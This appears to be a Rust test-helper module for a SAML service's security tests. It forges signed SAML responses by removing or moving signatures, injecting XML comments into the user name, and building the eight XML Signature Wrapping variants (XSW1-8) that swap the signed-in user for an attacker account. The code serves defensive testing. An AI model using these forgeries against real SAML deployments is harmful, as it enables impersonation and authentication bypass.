//! Text surgery on the SAML responses the test IdP signs, for the attack tests: find an element
//! (and its matching end), cut the Response's or the Assertion's signature out, swap the user for
//! another, and the XML Signature Wrapping permutations XSW1..XSW8 as SAML Raider
//! (CompassSecurity/SAMLRaider, `XSWHelpers`) builds them from a signed response.
//!
//! The IdP's responses are compact and regular (saml-idp/samlp: `samlp:Response` holding
//! `saml:Issuer`, a default-namespace `Signature`, `samlp:Status` and one `saml:Assertion` with
//! its own `Signature`), so string operations are exact here; each helper panics when what it
//! expects is not there rather than build a different attack than its name says.

use std::ops::Range;

/// The user the IdP signs in as (its default) and the one the attacker wants to be.
pub const VICTIM: &str = "saml.user";
pub const EVIL: &str = "mallory.admin";

/// The byte range of the first element whose start tag begins with `<{qname}` (followed by a
/// space, `>` or `/`), from `from` on, to the end of its matching end tag.
#[track_caller]
pub fn element(xml: &str, qname: &str, from: usize) -> Range<usize> {
    let open = format!("<{qname}");
    let close = format!("</{qname}>");
    let is_start = |at: usize| {
        xml[at..].starts_with(&open)
            && matches!(
                xml.as_bytes().get(at + open.len()),
                Some(b' ' | b'>' | b'/')
            )
    };
    let start = (from..xml.len())
        .find(|&i| is_start(i))
        .unwrap_or_else(|| panic!("no <{qname}> after byte {from} in {xml}"));
    let tag_end = start + xml[start..].find('>').unwrap();
    if xml[..tag_end].ends_with('/') {
        return start..tag_end + 1;
    }
    // Count nested elements of the same name until the matching end tag.
    let mut depth = 0usize;
    let mut at = tag_end;
    loop {
        let next_open = (at..xml.len()).find(|&i| is_start(i));
        let next_close = xml[at..]
            .find(&close)
            .map(|i| at + i)
            .expect("matching end tag");
        match next_open {
            Some(o) if o < next_close => {
                let end = o + xml[o..].find('>').unwrap();
                if !xml[..end].ends_with('/') {
                    depth += 1;
                }
                at = end;
            }
            _ if depth == 0 => return start..next_close + close.len(),
            _ => {
                depth -= 1;
                at = next_close + close.len();
            }
        }
    }
}

/// The Assertion of a response.
pub fn assertion(xml: &str) -> Range<usize> {
    element(xml, "saml:Assertion", 0)
}

/// The Response's own Signature (before the Assertion, plain or encrypted), if any.
pub fn response_signature(xml: &str) -> Option<Range<usize>> {
    let a = ["<saml:Assertion", "<saml:EncryptedAssertion"]
        .iter()
        .filter_map(|t| xml.find(t))
        .min()
        .expect("an Assertion");
    let s = xml[..a].find("<Signature ")?;
    Some(element(xml, "Signature", s))
}

/// The Assertion's Signature.
pub fn assertion_signature(xml: &str) -> Range<usize> {
    element(xml, "Signature", assertion(xml).start)
}

/// `xml` without `range`.
pub fn cut(xml: &str, range: Range<usize>) -> String {
    format!("{}{}", &xml[..range.start], &xml[range.end..])
}

/// `xml` with `insert` at byte `at`.
pub fn insert(xml: &str, at: usize, insert: &str) -> String {
    format!("{}{insert}{}", &xml[..at], &xml[at..])
}

/// The response with only its Assertion signed (a legitimate form: the IdP signs both).
pub fn without_response_signature(xml: &str) -> String {
    let s = response_signature(xml).expect("the IdP signs the Response");
    cut(xml, s)
}

/// The Assertion's signature moved up into the Response (which had its own removed): it still
/// verifies, its Reference naming the unchanged Assertion, but signs neither its new parent nor
/// leaves the Assertion signed; the Response's own fields go unsigned.
pub fn signature_moved_to_response(signed: &str) -> String {
    let doc = without_response_signature(signed);
    let sig = assertion_signature(&doc);
    let moved = doc[sig.clone()].to_string();
    let doc = cut(&doc, sig);
    let issuer_end = element(&doc, "saml:Issuer", 0).end;
    insert(&doc, issuer_end, &moved)
}

/// `fragment` with an empty comment `at` bytes into each text `>name<` (`admin<!---->@evil`):
/// canonical XML drops comments, so the signature still holds.
#[track_caller]
pub fn comment_in_name(fragment: &str, name: &str, at: usize) -> String {
    let text = format!(">{name}<");
    assert!(fragment.contains(&text), "no {name} in {fragment}");
    let commented = format!(">{}<!---->{}<", &name[..at], &name[at..]);
    fragment.replace(&text, &commented)
}

/// The value of attribute `name` in the start tag at `at`.
pub fn attribute(xml: &str, at: usize, name: &str) -> String {
    let tag = &xml[at..at + xml[at..].find('>').unwrap()];
    let key = format!(" {name}=\"");
    let v = tag
        .find(&key)
        .unwrap_or_else(|| panic!("no {name} in {tag}"))
        + key.len();
    tag[v..v + tag[v..].find('"').unwrap()].to_string()
}

/// Sets attribute `name` of the start tag at `at`.
pub fn set_attribute(xml: &str, at: usize, name: &str, value: &str) -> String {
    let old = attribute(xml, at, name);
    let tag_len = xml[at..].find('>').unwrap();
    let tag = xml[at..at + tag_len].replacen(
        &format!(" {name}=\"{old}\""),
        &format!(" {name}=\"{value}\""),
        1,
    );
    format!("{}{tag}{}", &xml[..at], &xml[at + tag_len..])
}

/// A fragment with the victim's name (NameID and principal attribute) swapped for `EVIL`'s.
#[track_caller]
pub fn evil(fragment: &str) -> String {
    let from = format!(">{VICTIM}<");
    assert!(
        fragment.contains(&from),
        "no {VICTIM} to replace in {fragment}"
    );
    fragment.replace(&from, &format!(">{EVIL}<"))
}

/// An assertion fragment without its Signature.
fn unsigned(assertion_xml: &str) -> String {
    let s = element(assertion_xml, "Signature", 0);
    cut(assertion_xml, s)
}

/// The Response root's start-tag position (0 after any prolog).
fn root(xml: &str) -> usize {
    element(xml, "samlp:Response", 0).start
}

/// The XML Signature Wrapping permutation `n` (1..=8) of a signed response, SAML Raider's way.
/// XSW1-2 wrap the Response (signed by the IdP); XSW3-8 wrap the Assertion, and are built on the
/// response with only its Assertion signed (the Response's signature would break otherwise).
pub fn xsw(n: u8, signed: &str) -> String {
    match n {
        1 | 2 => {
            let sig = response_signature(signed).expect("the IdP signs the Response");
            // The original, without its signature, goes into (1) or before (2) the signature of
            // an evil copy that keeps it; the evil copy gets a new ID and the attacker's user.
            let original = cut(signed, sig.clone());
            let evil_doc = evil(signed);
            let evil_doc = set_attribute(&evil_doc, root(&evil_doc), "ID", "_evil_response_ID");
            let sig = response_signature(&evil_doc).unwrap();
            if n == 1 {
                let end = sig.end - "</Signature>".len();
                insert(&evil_doc, end, &original)
            } else {
                insert(&evil_doc, sig.start, &original)
            }
        }
        3..=8 => {
            let doc = without_response_signature(signed);
            let a = assertion(&doc);
            let original = doc[a.clone()].to_string();
            match n {
                3 | 4 => {
                    // An unsigned evil copy with a new ID before (3) or around (4) the original.
                    let copy = evil(&unsigned(&original));
                    let copy = set_attribute(&copy, 0, "ID", "_evil_assertion_ID");
                    if n == 3 {
                        insert(&doc, a.start, &copy)
                    } else {
                        let end = copy.len() - "</saml:Assertion>".len();
                        let wrapped = insert(&copy, end, &original);
                        format!("{}{wrapped}{}", &doc[..a.start], &doc[a.end..])
                    }
                }
                5 | 6 => {
                    // The signed assertion made evil (new ID, keeps the signature); an unsigned copy
                    // of the original at the end of the Response (5) or inside the signature (6).
                    let copy = unsigned(&original);
                    let made_evil = set_attribute(&evil(&original), 0, "ID", "_evil_assertion_ID");
                    let mut doc = format!("{}{made_evil}{}", &doc[..a.start], &doc[a.end..]);
                    if n == 5 {
                        let end = doc.rfind("</samlp:Response>").unwrap();
                        doc = insert(&doc, end, &copy);
                    } else {
                        let sig = assertion_signature(&doc);
                        doc = insert(&doc, sig.end - "</Signature>".len(), &copy);
                    }
                    doc
                }
                7 => {
                    // An Extensions element holding an unsigned evil copy, before the original.
                    let copy = evil(&unsigned(&original));
                    insert(&doc, a.start, &format!("<Extensions>{copy}</Extensions>"))
                }
                _ => {
                    // The assertion made evil keeps its signature, which holds an Object with an
                    // unsigned copy of the original (same ID).
                    let copy = unsigned(&original);
                    let mut doc =
                        format!("{}{}{}", &doc[..a.start], evil(&original), &doc[a.end..]);
                    let sig = assertion_signature(&doc);
                    doc = insert(
                        &doc,
                        sig.end - "</Signature>".len(),
                        &format!("<Object>{copy}</Object>"),
                    );
                    doc
                }
            }
        }
        _ => panic!("XSW{n} is not one of SAML Raider's eight"),
    }
}

#[test]
fn elements_are_found_with_their_matching_end() {
    let xml = r#"<a:R x="1"><a:R>in</a:R><b/><a:Rx/></a:R><a:R/>"#;
    assert_eq!(
        &xml[element(xml, "a:R", 0)],
        r#"<a:R x="1"><a:R>in</a:R><b/><a:Rx/></a:R>"#
    );
    assert_eq!(&xml[element(xml, "a:R", 1)], "<a:R>in</a:R>");
    assert_eq!(&xml[element(xml, "a:R", 30)], "<a:R/>");
    let t = set_attribute(xml, 0, "x", "2");
    assert!(t.starts_with(r#"<a:R x="2">"#));
    assert_eq!(attribute(&t, 0, "x"), "2");
}

/// Whether xmlsec1 (what the server verifies with) finds the first signature of `xml` valid for
/// the certificate `cert_pem` (a file), resolving `ID` attributes of Responses and Assertions.
pub fn xmlsec_verifies(xml: &str, cert_pem: &std::path::Path) -> bool {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), xml).unwrap();
    let out = std::process::Command::new("xmlsec1")
        .args(["--verify", "--pubkey-cert-pem"])
        .arg(cert_pem)
        .args([
            "--id-attr:ID",
            "urn:oasis:names:tc:SAML:2.0:protocol:Response",
        ])
        .args([
            "--id-attr:ID",
            "urn:oasis:names:tc:SAML:2.0:assertion:Assertion",
        ])
        .arg(file.path())
        .output()
        .unwrap_or_else(|e| {
            panic!("\n!!! cannot run xmlsec1 ({e}): install it (scripts/test.sh does) !!!\n")
        });
    out.status.success()
}
